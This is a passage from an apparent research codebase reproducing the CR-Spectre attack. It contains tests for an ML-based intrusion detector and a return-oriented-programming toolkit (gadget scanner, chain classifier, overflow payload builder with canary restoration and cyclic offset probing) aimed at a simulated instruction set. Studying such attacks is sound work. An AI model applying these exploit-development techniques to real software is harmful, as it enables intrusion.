        assert_eq!(fast.predict(row), seed.predict(row), "{what}: LR row {i}");
        assert_eq!(batch[i], seed.predict(row), "{what}: LR batch row {i}");
    }
    assert!(fast.accuracy(x, y) == seed.accuracy(x, y), "{what}: LR accuracy");
}

fn check_svm(x: &[Vec<f64>], y: &[u8], what: &str) {
    let mut fast = LinearSvm::new();
    fast.fit(x, y);
    let mut seed = RefLinearSvm::new();
    seed.fit(x, y);
    assert_bits_eq(fast.weights(), seed.weights(), &format!("{what}: SVM weights"));
    assert_eq!(fast.bias().to_bits(), seed.bias().to_bits(), "{what}: SVM bias");
    let batch = fast.predict_batch(&Mat::from_rows(x));
    for (i, row) in x.iter().enumerate() {
        assert_eq!(fast.predict(row), seed.predict(row), "{what}: SVM row {i}");
        assert_eq!(batch[i], seed.predict(row), "{what}: SVM batch row {i}");
    }
    assert!(fast.accuracy(x, y) == seed.accuracy(x, y), "{what}: SVM accuracy");
}

fn check_net(
    mut fast: DenseNet,
    mut seed: RefDenseNet,
    x: &[Vec<f64>],
    y: &[u8],
    what: &str,
) {
    fast.fit(x, y);
    seed.fit(x, y);
    assert_eq!(fast.layers().len(), seed.weights().len(), "{what}: layer count");
    for (l, (flat, jagged)) in fast.layers().iter().zip(seed.weights()).enumerate() {
        assert_eq!(flat.rows(), jagged.len(), "{what}: layer {l} units");
        for (j, unit) in jagged.iter().enumerate() {
            assert_bits_eq(flat.row(j), unit, &format!("{what}: layer {l} unit {j}"));
        }
    }
    for (l, (fb, sb)) in fast.layer_biases().iter().zip(seed.biases()).enumerate() {
        assert_bits_eq(fb, sb, &format!("{what}: layer {l} biases"));
    }
    let batch = fast.predict_batch(&Mat::from_rows(x));
    for (i, row) in x.iter().enumerate() {
        assert_eq!(
            fast.predict_proba(row).to_bits(),
            seed.predict_proba(row).to_bits(),
            "{what}: proba row {i}"
        );
        assert_eq!(batch[i], seed.predict(row), "{what}: batch row {i}");
    }
    assert!(fast.accuracy(x, y) == seed.accuracy(x, y), "{what}: accuracy");
}

fn check_knn(x: &[Vec<f64>], y: &[u8], what: &str) {
    let mut fast = Knn::new();
    fast.fit(x, y);
    let mut seed = RefKnn::new();
    seed.fit(x, y);
    let batch = fast.predict_batch(&Mat::from_rows(x));
    for (i, row) in x.iter().enumerate() {
        assert_eq!(fast.predict(row), seed.predict(row), "{what}: kNN row {i}");
        assert_eq!(batch[i], seed.predict(row), "{what}: kNN batch row {i}");
    }
}

fn check_all(x: &[Vec<f64>], y: &[u8], what: &str) {
    check_logreg(x, y, what);
    check_svm(x, y, what);
    check_net(DenseNet::mlp(), RefDenseNet::mlp(), x, y, &format!("{what} MLP"));
    check_net(DenseNet::nn6(), RefDenseNet::nn6(), x, y, &format!("{what} NN"));
    check_knn(x, y, what);
}

#[test]
fn fig5_scale_bit_identical() {
    let (x, y) = fig5_shape();
    check_all(&x, &y, "fig5 800x4");
}

#[test]
fn table1_scale_bit_identical() {
    let (x, y) = table1_shape();
    check_all(&x, &y, "table1 240x16");
}

/// Telemetry is observation only: with a recorder installed, every
/// family still trains to bit-identical weights and predictions. Also
/// proves the new `hid.train.*` instruments fire.
#[test]
fn bit_identical_with_telemetry_enabled() {
    let sink = telemetry::sink::MemorySink::shared();
    assert!(
        telemetry::install(vec![Box::new(sink.clone())]),
        "another test installed telemetry concurrently"
    );
    let (x, y) = table1_shape();
    check_logreg(&x, &y, "telemetry 240x16");
    check_net(
        DenseNet::mlp(),
        RefDenseNet::mlp(),
        &x,
        &y,
        "telemetry 240x16 MLP",
    );
    // The per-epoch timing histogram must have fired from the fast fits.
    let summary = telemetry::shutdown().expect("telemetry was installed");
    let epochs = summary
        .histograms
        .get("hid.train.epoch_us")
        .expect("per-epoch timing histogram recorded");
    assert!(epochs.count > 0, "epoch histogram has samples");
}

/// End-to-end: a trained [`Hid`] (normalizer + fast model) classifies
/// exactly like the hand-built reference pipeline (per-row normalize +
/// seed model), batch and per-row.
#[test]
fn hid_pipeline_matches_reference_pipeline() {
    let (x, y) = fig5_shape();
    let mut train = Dataset::new();
    for (row, &label) in x.iter().zip(&y) {
        train.push_row(
            row.clone(),
            if label == 1 { Label::Attack } else { Label::Benign },
        );
    }
    let (probe, _) = clusters(160, 4, 1.5, 0x9e37);

    let normalizer = Normalizer::fit(&x);
    let mut normalized = x.clone();
    normalizer.apply_all(&mut normalized);

    for kind in HidKind::ALL {
        let hid = Hid::train(kind, HidMode::Offline, train.clone());
        let mut reference: Box<dyn Detector> = match kind {
            HidKind::Mlp => Box::new(RefDenseNet::mlp()),
            HidKind::Nn => Box::new(RefDenseNet::nn6()),
            HidKind::Lr => Box::new(RefLogisticRegression::new()),
            HidKind::Svm => Box::new(RefLinearSvm::new()),
        };
        reference.fit(&normalized, &y);
        let batch = hid.classify_batch(&probe);
        for (i, row) in probe.iter().enumerate() {
            let mut r = row.clone();
            normalizer.apply(&mut r);
            let expect = reference.predict(&r);
            assert_eq!(hid.classify(row), expect, "{kind}: per-row {i}");
            assert_eq!(batch[i], expect, "{kind}: batch {i}");
        }
    }
}

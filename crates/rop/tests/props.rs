//! Property-based tests of the ROP toolchain.

use proptest::prelude::*;

use cr_spectre_rop::gadget::GadgetKind;
use cr_spectre_rop::payload::{cyclic, cyclic_find, PayloadBuilder, PAD_BYTE};
use cr_spectre_rop::scanner::{GadgetSet, Scanner};
use cr_spectre_sim::isa::{Instr, Reg, INSTR_BYTES};

fn encode(instrs: &[Instr]) -> Vec<u8> {
    instrs.iter().flat_map(|i| i.encode()).collect()
}

proptest! {
    /// Every gadget reported by the scanner (a) starts inside the scanned
    /// range, (b) decodes fully, and (c) ends with RET.
    #[test]
    fn scanner_reports_only_valid_gadgets(raw in proptest::collection::vec(any::<u8>(), 0..512)) {
        // Align to instruction width.
        let len = raw.len() / INSTR_BYTES * INSTR_BYTES;
        let bytes = &raw[..len];
        let base = 0x4000u64;
        for gadget in Scanner::new(4).scan_bytes(bytes, base) {
            prop_assert!(gadget.addr >= base);
            prop_assert!(gadget.addr < base + len as u64);
            prop_assert_eq!(gadget.instrs.last(), Some(&Instr::Ret));
            // Re-decode from the raw bytes: must match.
            let off = (gadget.addr - base) as usize;
            for (k, instr) in gadget.instrs.iter().enumerate() {
                let chunk = &bytes[off + k * INSTR_BYTES..off + (k + 1) * INSTR_BYTES];
                prop_assert_eq!(&Instr::decode(chunk).unwrap(), instr);
            }
        }
    }

    /// The number of RETs in the input bounds the gadget count: each RET
    /// yields at most `max_len` suffixes.
    #[test]
    fn gadget_count_is_bounded(rets in 0usize..16, max_len in 1usize..6) {
        let mut instrs = Vec::new();
        for _ in 0..rets {
            instrs.push(Instr::Nop);
            instrs.push(Instr::Ret);
        }
        let gadgets = Scanner::new(max_len).scan_bytes(&encode(&instrs), 0);
        prop_assert!(gadgets.len() <= rets * max_len);
        prop_assert!(gadgets.len() >= rets.min(1));
    }

    /// A chain's serialized bytes always have length 8 × word count, and
    /// a PayloadBuilder embeds them verbatim after the padding for any
    /// pad byte.
    #[test]
    fn payload_embeds_chain_verbatim(
        offset in 1usize..200,
        pad in any::<u8>(),
        words in proptest::collection::vec(any::<u64>(), 0..10),
    ) {
        let payload = PayloadBuilder::new(offset).with_pad(pad).build(&words);
        prop_assert_eq!(payload.len(), offset + 8 * words.len());
        prop_assert!(payload[..offset].iter().all(|&b| b == pad));
        for (i, w) in words.iter().enumerate() {
            let at = offset + i * 8;
            prop_assert_eq!(u64::from_le_bytes(payload[at..at + 8].try_into().unwrap()), *w);
        }
    }

    /// Default padding is the paper's 'D'.
    #[test]
    fn default_padding_is_d(offset in 1usize..64) {
        let payload = PayloadBuilder::new(offset).build(&[]);
        prop_assert!(payload.iter().all(|&b| b == PAD_BYTE));
        prop_assert_eq!(PAD_BYTE, b'D');
    }

    /// cyclic_find rejects anything that is not a pattern word.
    #[test]
    fn cyclic_find_rejects_foreign_words(v in any::<u64>()) {
        let is_pattern = v >> 40 == 0x437963 && (v >> 32) & 0xff == 0;
        prop_assert_eq!(cyclic_find(v).is_some(), is_pattern);
    }

    /// Pattern length requests are honored exactly.
    #[test]
    fn cyclic_length_exact(len in 0usize..1000) {
        prop_assert_eq!(cyclic(len).len(), len);
    }

    /// The gadget catalog's kind index always returns a gadget of that
    /// kind, whichever registers appear.
    #[test]
    fn gadget_set_index_is_consistent(regs in proptest::collection::vec(0u8..16, 1..8)) {
        let mut instrs = Vec::new();
        for &r in &regs {
            instrs.push(Instr::Pop(Reg::from_index(r).unwrap()));
            instrs.push(Instr::Ret);
        }
        let set = GadgetSet::new(Scanner::new(2).scan_bytes(&encode(&instrs), 0x100));
        for &r in &regs {
            let reg = Reg::from_index(r).unwrap();
            let g = set.pop_reg(reg).expect("pop gadget exists");
            prop_assert_eq!(g.kind, GadgetKind::PopReg(reg));
        }
    }
}

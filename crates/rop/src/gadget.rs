//! Gadget model: `RET`-terminated instruction sequences and their
//! semantic classification.

use std::fmt;

use cr_spectre_sim::isa::{AluOp, Instr, Reg};

/// What a gadget does, summarized for the chain builder.
///
/// Classification looks at the instructions *before* the terminating
/// `RET`. Only shapes the chain builder knows how to exploit get a
/// dedicated variant; everything else is [`GadgetKind::Other`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum GadgetKind {
    /// A bare `ret` (stack stepping stone / NOP of ROP).
    Ret,
    /// `pop rN; ret` — loads the next stack word into a register.
    PopReg(Reg),
    /// `pop rA; pop rB; ret` — loads two stack words.
    PopPop(Reg, Reg),
    /// `mov rD, rS; ret`.
    MovReg {
        /// Destination register.
        dst: Reg,
        /// Source register.
        src: Reg,
    },
    /// `op rD, rS1, rS2; ret`.
    Alu(AluOp, Reg, Reg, Reg),
    /// `add sp, sp, k; ret` — lifts the stack pointer (skips chain bytes).
    AddSp(i32),
    /// `st [rBase+off], rSrc; ret` — arbitrary write.
    StoreMem {
        /// Base address register.
        base: Reg,
        /// Stored register.
        src: Reg,
        /// Immediate offset.
        offset: i32,
    },
    /// `ld rDst, [rBase+off]; ret` — arbitrary read.
    LoadMem {
        /// Destination register.
        dst: Reg,
        /// Base address register.
        base: Reg,
        /// Immediate offset.
        offset: i32,
    },
    /// `syscall; ret` — the system-call trampoline.
    SyscallRet,
    /// Decodable and `RET`-terminated, but not a shape the builder uses.
    Other,
}

/// A gadget: its guest address and decoded instructions (the last is
/// always `RET`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Gadget {
    /// Guest address of the first instruction.
    pub addr: u64,
    /// The instruction sequence, terminator included.
    pub instrs: Vec<Instr>,
    /// Semantic classification.
    pub kind: GadgetKind,
}

impl Gadget {
    /// Builds a gadget from a decoded sequence, classifying it.
    ///
    /// # Panics
    ///
    /// Panics if `instrs` is empty or does not end with `RET` — the
    /// scanner only ever constructs `RET`-terminated sequences.
    pub fn new(addr: u64, instrs: Vec<Instr>) -> Gadget {
        assert_eq!(instrs.last(), Some(&Instr::Ret), "gadget must end in ret");
        let kind = classify(&instrs);
        Gadget { addr, instrs, kind }
    }

    /// Number of instructions including the `RET`.
    pub fn len(&self) -> usize {
        self.instrs.len()
    }

    /// A gadget always has at least the `RET`, so this is always `false`;
    /// provided for API completeness.
    pub fn is_empty(&self) -> bool {
        self.instrs.is_empty()
    }

    /// How many stack words the gadget consumes **after** its own address
    /// word and **before** the next gadget address (i.e. `pop` count plus
    /// `add sp` words).
    pub fn stack_words(&self) -> usize {
        self.instrs
            .iter()
            .map(|i| match i {
                Instr::Pop(_) => 1,
                Instr::Alui(AluOp::Add, rd, rs, k)
                    if *rd == Reg::SP && *rs == Reg::SP && *k > 0 =>
                {
                    (*k as usize) / 8
                }
                _ => 0,
            })
            .sum()
    }
}

impl fmt::Display for Gadget {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:#x}: ", self.addr)?;
        for (i, instr) in self.instrs.iter().enumerate() {
            if i > 0 {
                write!(f, "; ")?;
            }
            write!(f, "{instr}")?;
        }
        Ok(())
    }
}

/// Classifies an instruction sequence (which must end in `RET`).
fn classify(instrs: &[Instr]) -> GadgetKind {
    let body = &instrs[..instrs.len() - 1];
    match body {
        [] => GadgetKind::Ret,
        [Instr::Pop(r)] => GadgetKind::PopReg(*r),
        [Instr::Pop(a), Instr::Pop(b)] => GadgetKind::PopPop(*a, *b),
        [Instr::Mov(d, s)] => GadgetKind::MovReg { dst: *d, src: *s },
        [Instr::Alui(AluOp::Add, rd, rs, k)] if *rd == Reg::SP && *rs == Reg::SP => {
            GadgetKind::AddSp(*k)
        }
        [Instr::Alu(op, d, s1, s2)] => GadgetKind::Alu(*op, *d, *s1, *s2),
        [Instr::St(cr_spectre_sim::isa::Width::D, base, src, off)] => {
            GadgetKind::StoreMem { base: *base, src: *src, offset: *off }
        }
        [Instr::Ld(cr_spectre_sim::isa::Width::D, dst, base, off)] => {
            GadgetKind::LoadMem { dst: *dst, base: *base, offset: *off }
        }
        [Instr::Syscall] => GadgetKind::SyscallRet,
        _ => GadgetKind::Other,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cr_spectre_sim::isa::Width;

    #[test]
    fn classify_pop_ret() {
        let g = Gadget::new(0x100, vec![Instr::Pop(Reg::R1), Instr::Ret]);
        assert_eq!(g.kind, GadgetKind::PopReg(Reg::R1));
        assert_eq!(g.stack_words(), 1);
    }

    #[test]
    fn classify_bare_ret() {
        let g = Gadget::new(0, vec![Instr::Ret]);
        assert_eq!(g.kind, GadgetKind::Ret);
        assert_eq!(g.stack_words(), 0);
        assert_eq!(g.len(), 1);
        assert!(!g.is_empty());
    }

    #[test]
    fn classify_pop_pop() {
        let g = Gadget::new(0, vec![Instr::Pop(Reg::R1), Instr::Pop(Reg::R2), Instr::Ret]);
        assert_eq!(g.kind, GadgetKind::PopPop(Reg::R1, Reg::R2));
        assert_eq!(g.stack_words(), 2);
    }

    #[test]
    fn classify_add_sp() {
        let g = Gadget::new(
            0,
            vec![Instr::Alui(AluOp::Add, Reg::SP, Reg::SP, 16), Instr::Ret],
        );
        assert_eq!(g.kind, GadgetKind::AddSp(16));
        assert_eq!(g.stack_words(), 2);
    }

    #[test]
    fn classify_syscall_ret() {
        let g = Gadget::new(0, vec![Instr::Syscall, Instr::Ret]);
        assert_eq!(g.kind, GadgetKind::SyscallRet);
    }

    #[test]
    fn classify_store_and_load() {
        let st = Gadget::new(0, vec![Instr::St(Width::D, Reg::R1, Reg::R2, 0), Instr::Ret]);
        assert_eq!(st.kind, GadgetKind::StoreMem { base: Reg::R1, src: Reg::R2, offset: 0 });
        let ld = Gadget::new(0, vec![Instr::Ld(Width::D, Reg::R1, Reg::R1, 8), Instr::Ret]);
        assert_eq!(ld.kind, GadgetKind::LoadMem { dst: Reg::R1, base: Reg::R1, offset: 8 });
    }

    #[test]
    fn classify_other() {
        let g = Gadget::new(0, vec![Instr::Nop, Instr::Nop, Instr::Ret]);
        assert_eq!(g.kind, GadgetKind::Other);
    }

    #[test]
    #[should_panic(expected = "must end in ret")]
    fn non_ret_terminated_panics() {
        let _ = Gadget::new(0, vec![Instr::Nop]);
    }

    #[test]
    fn display_lists_instructions() {
        let g = Gadget::new(0x40, vec![Instr::Pop(Reg::R2), Instr::Ret]);
        let s = g.to_string();
        assert!(s.contains("0x40"));
        assert!(s.contains("pop r2; ret"));
    }
}

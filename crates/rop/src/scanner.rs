//! Gadget scanner: harvest `RET`-terminated sequences from executable
//! memory.
//!
//! This is the simulator analogue of loading a binary in GDB and searching
//! for `ret`-suffixed instruction runs (Section II-C of the paper). The
//! scanner walks every executable range, finds each `RET`, and emits every
//! decodable suffix of up to [`Scanner::max_len`] instructions ending at
//! that `RET` — each suffix is a distinct entry point, exactly as on x86.

use std::collections::HashMap;

use cr_spectre_sim::cpu::Machine;
use cr_spectre_sim::image::LoadedImage;
use cr_spectre_sim::isa::{Instr, Reg, INSTR_BYTES};

use crate::gadget::{Gadget, GadgetKind};

/// Configurable gadget scanner.
#[derive(Debug, Clone)]
pub struct Scanner {
    /// Longest gadget to report, in instructions (terminator included).
    pub max_len: usize,
}

impl Default for Scanner {
    fn default() -> Scanner {
        Scanner { max_len: 4 }
    }
}

impl Scanner {
    /// Creates a scanner reporting gadgets of up to `max_len` instructions.
    ///
    /// # Panics
    ///
    /// Panics when `max_len == 0`.
    pub fn new(max_len: usize) -> Scanner {
        assert!(max_len > 0, "max_len must be nonzero");
        Scanner { max_len }
    }

    /// Scans a raw byte slice that is mapped executable at guest address
    /// `base`.
    pub fn scan_bytes(&self, bytes: &[u8], base: u64) -> Vec<Gadget> {
        let mut out = Vec::new();
        let n_instrs = bytes.len() / INSTR_BYTES;
        for i in 0..n_instrs {
            let chunk = &bytes[i * INSTR_BYTES..(i + 1) * INSTR_BYTES];
            if Instr::decode(chunk) != Ok(Instr::Ret) {
                continue;
            }
            // Every decodable suffix ending at this RET is a gadget.
            for len in 1..=self.max_len.min(i + 1) {
                let start = i + 1 - len;
                let mut instrs = Vec::with_capacity(len);
                let mut ok = true;
                for j in start..=i {
                    let c = &bytes[j * INSTR_BYTES..(j + 1) * INSTR_BYTES];
                    match Instr::decode(c) {
                        // An interior control-flow change would divert
                        // before reaching the RET; skip such suffixes.
                        Ok(instr) if j < i && instr.is_terminator() => {
                            ok = false;
                            break;
                        }
                        Ok(instr) => instrs.push(instr),
                        Err(_) => {
                            ok = false;
                            break;
                        }
                    }
                }
                if ok {
                    out.push(Gadget::new(base + (start * INSTR_BYTES) as u64, instrs));
                }
            }
        }
        out
    }

    /// Scans every executable range of a loaded image inside `machine`.
    pub fn scan_image(&self, machine: &Machine, image: &LoadedImage) -> GadgetSet {
        let mut gadgets = Vec::new();
        for &(start, end) in &image.exec_ranges {
            let bytes = machine.mem().peek(start, (end - start) as usize);
            gadgets.extend(self.scan_bytes(bytes, start));
        }
        GadgetSet::new(gadgets)
    }
}

/// An indexed catalog of scanned gadgets.
///
/// # Examples
///
/// ```
/// use cr_spectre_rop::gadget::{Gadget, GadgetKind};
/// use cr_spectre_rop::scanner::GadgetSet;
/// use cr_spectre_sim::isa::{Instr, Reg};
///
/// let set = GadgetSet::new(vec![Gadget::new(0x80, vec![Instr::Pop(Reg::R1), Instr::Ret])]);
/// assert!(set.pop_reg(Reg::R1).is_some());
/// assert!(set.pop_reg(Reg::R2).is_none());
/// ```
#[derive(Debug, Clone, Default)]
pub struct GadgetSet {
    gadgets: Vec<Gadget>,
    by_kind: HashMap<GadgetKind, usize>,
}

impl GadgetSet {
    /// Builds the catalog, indexing the first gadget of each kind (lowest
    /// address wins, matching the determinism of a fixed binary).
    pub fn new(mut gadgets: Vec<Gadget>) -> GadgetSet {
        gadgets.sort_by_key(|g| (g.addr, g.len()));
        let mut by_kind = HashMap::new();
        for (i, g) in gadgets.iter().enumerate() {
            by_kind.entry(g.kind).or_insert(i);
        }
        GadgetSet { gadgets, by_kind }
    }

    /// All gadgets, sorted by address.
    pub fn iter(&self) -> impl Iterator<Item = &Gadget> {
        self.gadgets.iter()
    }

    /// Number of gadgets found.
    pub fn len(&self) -> usize {
        self.gadgets.len()
    }

    /// Whether the catalog is empty.
    pub fn is_empty(&self) -> bool {
        self.gadgets.is_empty()
    }

    /// The first gadget of exactly `kind`.
    pub fn find(&self, kind: GadgetKind) -> Option<&Gadget> {
        self.by_kind.get(&kind).map(|&i| &self.gadgets[i])
    }

    /// A `pop rN; ret` gadget for the requested register — directly, or as
    /// the second half of a `pop; pop; ret`.
    pub fn pop_reg(&self, reg: Reg) -> Option<&Gadget> {
        self.find(GadgetKind::PopReg(reg))
    }

    /// A `syscall; ret` gadget.
    pub fn syscall_ret(&self) -> Option<&Gadget> {
        self.find(GadgetKind::SyscallRet)
    }

    /// A bare `ret` gadget (chain alignment sled).
    pub fn ret(&self) -> Option<&Gadget> {
        self.find(GadgetKind::Ret)
    }
}

impl IntoIterator for GadgetSet {
    type Item = Gadget;
    type IntoIter = std::vec::IntoIter<Gadget>;

    fn into_iter(self) -> Self::IntoIter {
        self.gadgets.into_iter()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cr_spectre_sim::isa::AluOp;

    fn encode(instrs: &[Instr]) -> Vec<u8> {
        instrs.iter().flat_map(|i| i.encode()).collect()
    }

    #[test]
    fn finds_suffixes_of_a_ret() {
        // nop; pop r1; ret → gadgets: [ret], [pop r1; ret],
        // [nop; pop r1; ret]
        let bytes = encode(&[Instr::Nop, Instr::Pop(Reg::R1), Instr::Ret]);
        let scanner = Scanner::default();
        let gadgets = scanner.scan_bytes(&bytes, 0x1000);
        assert_eq!(gadgets.len(), 3);
        let pops: Vec<_> = gadgets
            .iter()
            .filter(|g| g.kind == GadgetKind::PopReg(Reg::R1))
            .collect();
        assert_eq!(pops.len(), 1);
        assert_eq!(pops[0].addr, 0x1000 + 8);
    }

    #[test]
    fn interior_terminators_break_suffixes() {
        // jmp; pop r1; ret → the 3-long suffix crosses the jmp and must be
        // dropped; [pop r1; ret] and [ret] remain.
        let bytes = encode(&[Instr::Jmp(0), Instr::Pop(Reg::R1), Instr::Ret]);
        let gadgets = Scanner::default().scan_bytes(&bytes, 0);
        assert_eq!(gadgets.len(), 2);
        assert!(gadgets.iter().all(|g| g.len() <= 2));
    }

    #[test]
    fn undecodable_bytes_break_suffixes() {
        let mut bytes = encode(&[Instr::Nop, Instr::Pop(Reg::R2), Instr::Ret]);
        bytes[0] = 0xee; // corrupt the first opcode
        let gadgets = Scanner::default().scan_bytes(&bytes, 0);
        assert_eq!(gadgets.len(), 2, "3-long suffix dropped");
    }

    #[test]
    fn max_len_caps_gadget_size() {
        let bytes = encode(&[
            Instr::Nop,
            Instr::Nop,
            Instr::Nop,
            Instr::Pop(Reg::R3),
            Instr::Ret,
        ]);
        let gadgets = Scanner::new(2).scan_bytes(&bytes, 0);
        assert!(gadgets.iter().all(|g| g.len() <= 2));
        assert_eq!(gadgets.len(), 2);
    }

    #[test]
    fn multiple_rets_found() {
        let bytes = encode(&[
            Instr::Pop(Reg::R1),
            Instr::Ret,
            Instr::Pop(Reg::R2),
            Instr::Ret,
        ]);
        let set = GadgetSet::new(Scanner::default().scan_bytes(&bytes, 0));
        assert!(set.pop_reg(Reg::R1).is_some());
        assert!(set.pop_reg(Reg::R2).is_some());
        assert!(set.ret().is_some());
    }

    #[test]
    fn set_prefers_lowest_address() {
        let bytes = encode(&[
            Instr::Pop(Reg::R1),
            Instr::Ret,
            Instr::Pop(Reg::R1),
            Instr::Ret,
        ]);
        let set = GadgetSet::new(Scanner::default().scan_bytes(&bytes, 0x100));
        assert_eq!(set.pop_reg(Reg::R1).unwrap().addr, 0x100);
    }

    #[test]
    fn scans_runtime_linked_image() {
        use cr_spectre_asm::builder::Asm;
        use cr_spectre_asm::runtime::add_runtime;
        use cr_spectre_sim::config::MachineConfig;

        let mut a = Asm::new();
        a.label("main");
        a.halt();
        add_runtime(&mut a);
        let image = a.build("host").unwrap();
        let mut m = Machine::new(MachineConfig::default());
        let li = m.load(&image).unwrap();
        let set = Scanner::default().scan_image(&m, &li);
        // The runtime guarantees the chain builder's working set.
        assert!(set.pop_reg(Reg::R1).is_some());
        assert!(set.pop_reg(Reg::R2).is_some());
        assert!(set.syscall_ret().is_some());
        assert!(set.len() > 20, "rich population, got {}", set.len());
        // Gadget addresses really live inside the image's exec range.
        let (lo, hi) = li.exec_ranges[0];
        assert!(set.iter().all(|g| g.addr >= lo && g.addr < hi));
    }

    #[test]
    fn alu_gadget_classified() {
        let bytes = encode(&[Instr::Alu(AluOp::Add, Reg::R1, Reg::R1, Reg::R2), Instr::Ret]);
        let set = GadgetSet::new(Scanner::default().scan_bytes(&bytes, 0));
        assert!(set.find(GadgetKind::Alu(AluOp::Add, Reg::R1, Reg::R1, Reg::R2)).is_some());
    }

    #[test]
    fn empty_input_yields_nothing() {
        let set = GadgetSet::new(Scanner::default().scan_bytes(&[], 0));
        assert!(set.is_empty());
        assert_eq!(set.len(), 0);
    }
}

//! # cr-spectre-rop
//!
//! Return-oriented-programming toolkit for the CR-Spectre reproduction:
//! the code-reuse injection vector of Section II-C of the paper.
//!
//! Pipeline:
//!
//! 1. [`scanner::Scanner`] harvests `RET`-terminated instruction sequences
//!    from a loaded image's executable pages (the GDB gadget hunt);
//! 2. [`scanner::GadgetSet`] indexes them by semantic
//!    [`gadget::GadgetKind`];
//! 3. [`chain::Chain`] assembles stack words that stage registers and
//!    return into the `exec` syscall wrapper — the `execve` of the paper;
//! 4. [`payload::PayloadBuilder`] serializes the Listing-1 attack string
//!    (padding + optional canary + chain), and [`payload::cyclic`]
//!    supports offset discovery by crash probing;
//! 5. [`exploit`] delivers the string to the vulnerable host.
//!
//! # Example
//!
//! ```
//! use cr_spectre_rop::{chain::Chain, payload::PayloadBuilder, scanner::GadgetSet};
//! use cr_spectre_rop::gadget::Gadget;
//! use cr_spectre_sim::isa::{Instr, Reg};
//!
//! let set = GadgetSet::new(vec![Gadget::new(0x80, vec![Instr::Pop(Reg::R1), Instr::Ret])]);
//! let mut chain = Chain::new(&set);
//! chain.set_reg(Reg::R1, 0x3000)?; // name pointer for exec
//! chain.invoke(0x9000);            // return into sys_exec
//! let attack_string = PayloadBuilder::new(104).build(chain.words());
//! assert_eq!(attack_string.len(), 104 + 3 * 8);
//! # Ok::<(), cr_spectre_rop::chain::ChainError>(())
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod chain;
pub mod exploit;
pub mod gadget;
pub mod payload;
pub mod scanner;

pub use chain::{Chain, ChainError};
pub use gadget::{Gadget, GadgetKind};
pub use payload::PayloadBuilder;
pub use scanner::{GadgetSet, Scanner};

//! Overflow payload construction — the paper's Listing 1.
//!
//! The attack string handed to the vulnerable host fills the stack buffer
//! with padding (`'D'` bytes, as in the paper's
//! `python -c 'print "D"*0x6C + ...'`), optionally restores the stack
//! canary (when the adversary has leaked it — the paper notes canaries
//! "can also be evaded"), overwrites the saved return address with the
//! first gadget address, and appends the rest of the ROP chain.
//!
//! The module also ships a cyclic-pattern generator for *discovering* the
//! return-address offset by crash probing, the standard exploit-development
//! workflow when frame layout is unknown.

use cr_spectre_sim::error::{ExitReason, Fault};

/// Padding byte used by the paper's payload (`'D'`).
pub const PAD_BYTE: u8 = 0x44;

/// Magic tag in cyclic-pattern words (top three bytes spell `"Cyc"`).
const CYCLIC_MAGIC: u64 = 0x4379_6300_0000_0000;
const CYCLIC_TAG_MASK: u64 = 0xffff_ff00_0000_0000;

/// Builder for Listing-1 style overflow payloads.
///
/// # Examples
///
/// ```
/// use cr_spectre_rop::payload::PayloadBuilder;
///
/// // 100-byte buffer, return address 104 bytes in (one saved slot).
/// let payload = PayloadBuilder::new(104).build(&[0x8000, 0xdead]);
/// assert_eq!(payload.len(), 104 + 16);
/// assert_eq!(&payload[104..112], &0x8000u64.to_le_bytes());
/// ```
#[derive(Debug, Clone)]
pub struct PayloadBuilder {
    offset_to_ret: usize,
    canary: Option<(usize, u64)>,
    pad: u8,
}

impl PayloadBuilder {
    /// Creates a builder for a frame whose saved return address lives
    /// `offset_to_ret` bytes past the start of the overflowed buffer.
    pub fn new(offset_to_ret: usize) -> PayloadBuilder {
        PayloadBuilder { offset_to_ret, canary: None, pad: PAD_BYTE }
    }

    /// Restores a known canary `value` at `offset` (bytes past the buffer
    /// start) so the epilogue check passes despite the overflow.
    pub fn with_canary(mut self, offset: usize, value: u64) -> PayloadBuilder {
        assert!(offset + 8 <= self.offset_to_ret, "canary must precede the return slot");
        self.canary = Some((offset, value));
        self
    }

    /// Overrides the padding byte.
    pub fn with_pad(mut self, pad: u8) -> PayloadBuilder {
        self.pad = pad;
        self
    }

    /// Serializes padding + (canary) + chain words into the attack string.
    pub fn build(&self, chain_words: &[u64]) -> Vec<u8> {
        let mut out = vec![self.pad; self.offset_to_ret];
        if let Some((off, value)) = self.canary {
            out[off..off + 8].copy_from_slice(&value.to_le_bytes());
        }
        for w in chain_words {
            out.extend_from_slice(&w.to_le_bytes());
        }
        out
    }
}

/// Generates `len` bytes of a cyclic probe pattern whose 8-byte words are
/// position-tagged, for locating the return-address offset from a crash.
pub fn cyclic(len: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(len);
    let mut k: u64 = 0;
    while out.len() < len {
        let word = CYCLIC_MAGIC | k;
        out.extend_from_slice(&word.to_le_bytes());
        k += 1;
    }
    out.truncate(len);
    out
}

/// Recovers the byte offset encoded in a cyclic-pattern word, if `value`
/// is one.
pub fn cyclic_find(value: u64) -> Option<usize> {
    if value & CYCLIC_TAG_MASK == CYCLIC_MAGIC {
        Some(((value & 0xffff_ffff) * 8) as usize)
    } else {
        None
    }
}

/// Extracts the return-address offset from the exit of a cyclic-probe run:
/// the hijacked `RET` lands on a pattern word, so the run dies fetching
/// from that address.
pub fn offset_from_crash(exit: &ExitReason) -> Option<usize> {
    match exit {
        ExitReason::Fault(Fault::Mem(f)) => cyclic_find(f.addr),
        ExitReason::Fault(Fault::Decode { pc }) => cyclic_find(*pc),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cr_spectre_sim::mem::{AccessKind, MemFault};

    #[test]
    fn payload_layout() {
        let p = PayloadBuilder::new(24).build(&[0x1111, 0x2222]);
        assert_eq!(p.len(), 24 + 16);
        assert!(p[..24].iter().all(|&b| b == PAD_BYTE));
        assert_eq!(&p[24..32], &0x1111u64.to_le_bytes());
        assert_eq!(&p[32..40], &0x2222u64.to_le_bytes());
    }

    #[test]
    fn canary_is_planted() {
        let p = PayloadBuilder::new(24).with_canary(16, 0xaabb_ccdd).build(&[0x1]);
        assert_eq!(&p[16..24], &0xaabb_ccddu64.to_le_bytes());
        assert!(p[..16].iter().all(|&b| b == PAD_BYTE));
    }

    #[test]
    #[should_panic(expected = "precede the return slot")]
